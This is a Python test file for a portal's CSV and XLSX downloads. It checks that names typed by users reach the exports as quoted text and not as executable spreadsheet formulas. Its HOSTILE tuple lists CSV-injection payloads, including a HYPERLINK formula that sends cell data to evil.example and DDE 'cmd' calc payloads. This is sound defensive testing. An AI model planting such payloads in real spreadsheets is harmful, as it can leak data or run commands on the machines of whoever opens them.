"""A name is whatever someone typed into an extract: in a download it must arrive as
text, never as a formula the bureau's Excel or WPS would run (CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from liushou.decisions.workbook import COLUMNS as REVIEW_COLUMNS
from liushou.portal.app import create_app
from liushou.publish.tables import HEADERS

from .conftest import Q3, Clock, Portal, add_accounts, copy_out

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture(scope="module")
def hostile(published: Path, tmp_path_factory: pytest.TempPathFactory) -> Portal:
    """The published outputs with hostile names planted in the register and the review
    table, and a negative match score (a number, which must stay one)."""
    out = copy_out(published, tmp_path_factory.mktemp("hostile") / "out")
    register = pd.read_parquet(out / Q3 / "register.parquet")
    register.loc[register.index[: len(HOSTILE)], "name"] = list(HOSTILE)
    register.loc[register.index[0], "match_score"] = -0.5
    register.to_parquet(out / Q3 / "register.parquet", index=False)
    review = pd.read_parquet(out / Q3 / "conflicts_review.parquet")
    assert len(review) >= len(HOSTILE)
    review.loc[review.index[: len(HOSTILE)], "r1_name"] = list(HOSTILE)
    review.to_parquet(out / Q3 / "conflicts_review.parquet", index=False)
    add_accounts(out)
    clock = Clock()
    return Portal(out, clock, create_app(out, clock=clock))


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("table", "column"),
    [("register", HEADERS["name"]), ("conflicts_review", REVIEW_COLUMNS["r1_name"])],
)
def test_a_formula_typed_as_a_name_reaches_the_csv_as_quoted_text(hostile, table, column):
    response = hostile.login("county").get(f"/downloads/{Q3}/{table}.csv")
    assert response.status_code == 200
    cells = [row[column] for row in _csv_rows(response.content)]
    assert cells[: len(HOSTILE)] == ["'" + name for name in HOSTILE]
    others = [c for c in cells[len(HOSTILE) :] if c]
    assert others and not any(c.startswith(("'", "=", "+", "-", "@")) for c in others)
    if table == "register":  # a number is no text: a negative score stays a number
        assert _csv_rows(response.content)[0][HEADERS["match_score"]] == "-0.5"


@pytest.mark.parametrize("table", ["register", "conflicts_review"])
def test_a_formula_typed_as_a_name_is_a_plain_string_cell_in_the_xlsx(hostile, table):
    """Safe today (xlsxwriter writes strings as strings): kept so."""
    response = hostile.login("county").get(f"/downloads/{Q3}/{table}.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    # a CR is stored escaped (_x000D_), as Excel does; openpyxl gives the escape back
    hostile_text = {name.replace("\r", "_x000D_") for name in HOSTILE}
    planted = [c for c in cells if c.value in hostile_text]
    assert {c.value for c in planted} == hostile_text
    assert all(c.data_type == "s" for c in planted)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
